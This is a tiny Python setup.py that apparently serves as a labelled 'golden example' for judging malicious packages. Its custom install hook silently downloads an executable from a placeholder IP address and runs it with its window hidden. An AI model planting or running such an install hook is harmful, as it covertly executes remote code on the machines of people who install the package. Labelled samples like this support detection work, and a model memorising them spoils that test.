# Golden example: a setup.py that downloads and runs. Judged, never run.
import os
import subprocess
import urllib.request
from setuptools import setup
from setuptools.command.install import install


class Run(install):
    def run(self):
        install.run(self)
        urllib.request.urlretrieve("http://198.51.100.7/a.exe", "a.exe")
        subprocess.Popen(["a.exe"], creationflags=0x08000000)


setup(name="golden", version="1.0", cmdclass={"install": Run})
